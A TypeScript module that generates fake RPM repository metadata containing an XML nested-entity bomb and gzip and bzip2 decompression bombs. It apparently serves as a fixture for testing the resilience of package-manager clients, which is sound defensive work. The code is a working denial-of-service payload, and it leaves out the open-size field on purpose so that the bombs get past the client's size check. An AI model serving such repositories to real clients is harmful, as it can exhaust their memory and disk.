// Repositories that are small to fetch and want to be huge when they are read.

import { createHash } from "node:crypto";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";

const GZIP_MEMBER_BYTES = 64 * 1024 ** 2;
/** 10 GB in 10 MB. */
const GZIP_MEMBERS = 160;
const LINUX = "http://linux.duke.edu/metadata";

/** 47 MB of blanks. */
const BZIP2_MEMBER = Buffer.from(
  "QlpoOTFBWSZTWbUiZb8BX44QAMAAAAggADCATUZCoCWpCoCXMUFZJlNZIA9kVAAJ2pAEwAAAAQAIIAAwzAmqaZIhW1REK8XckU4UJBKS68rA",
  "base64",
);
/** 14 GB in 25 KB: one read of a socket brings it all. */
const BZIP2_MEMBERS = 300;

/** Writes `entities/`, `gzip/` and `bzip2/` below the folder. */
export async function makeBombs(folder: string): Promise<void> {
  writeFileSync(join(repodataOf(folder, "entities"), "repomd.xml"), entityBomb());
  const member = gzipSync(Buffer.alloc(GZIP_MEMBER_BYTES, 0x20), { level: 9 });
  const head = gzipSync(`<?xml version="1.0"?>\n<metadata xmlns="${LINUX}/common" packages="1">`);
  const members = Array.from({ length: GZIP_MEMBERS }, () => member);
  writeRecords(repodataOf(folder, "gzip"), "gz", Buffer.concat([head, ...members]));
  const bzip2 = Buffer.concat(Array.from({ length: BZIP2_MEMBERS }, () => BZIP2_MEMBER));
  writeRecords(repodataOf(folder, "bzip2"), "bz2", bzip2);
}

/** The same bytes for each record. No open-size: it would be refused by that, before any of it is opened. */
function writeRecords(repodata: string, suffix: string, bomb: Buffer): void {
  const records = ["primary", "filelists", "other"].map((type) => {
    writeFileSync(join(repodata, `${type}.xml.${suffix}`), bomb);
    return `  <data type="${type}">
    <checksum type="sha256">${createHash("sha256").update(bomb).digest("hex")}</checksum>
    <location href="repodata/${type}.xml.${suffix}"/>
    <timestamp>1790000000</timestamp>
    <size>${bomb.length}</size>
  </data>`;
  });
  const repomd = `<?xml version="1.0"?>\n<repomd xmlns="${LINUX}/repo"><revision>1</revision>\n${records.join("\n")}\n</repomd>\n`;
  writeFileSync(join(repodata, "repomd.xml"), repomd);
}

function repodataOf(folder: string, name: string): string {
  const repodata = join(folder, name, "repodata");
  mkdirSync(repodata, { recursive: true });
  return repodata;
}

/** Ten entities, each ten of the one before: 10 GB of text. */
function entityBomb(): string {
  const levels = Array.from({ length: 10 }, (_, level) => {
    const text = level === 0 ? "laughter  " : `&e${level - 1};`.repeat(10);
    return `<!ENTITY e${level} "${text}">`;
  });
  return `<?xml version="1.0"?>\n<!DOCTYPE repomd [\n${levels.join("\n")}\n]>\n<repomd xmlns="${LINUX}/repo"><revision>&e9;</revision></repomd>\n`;
}
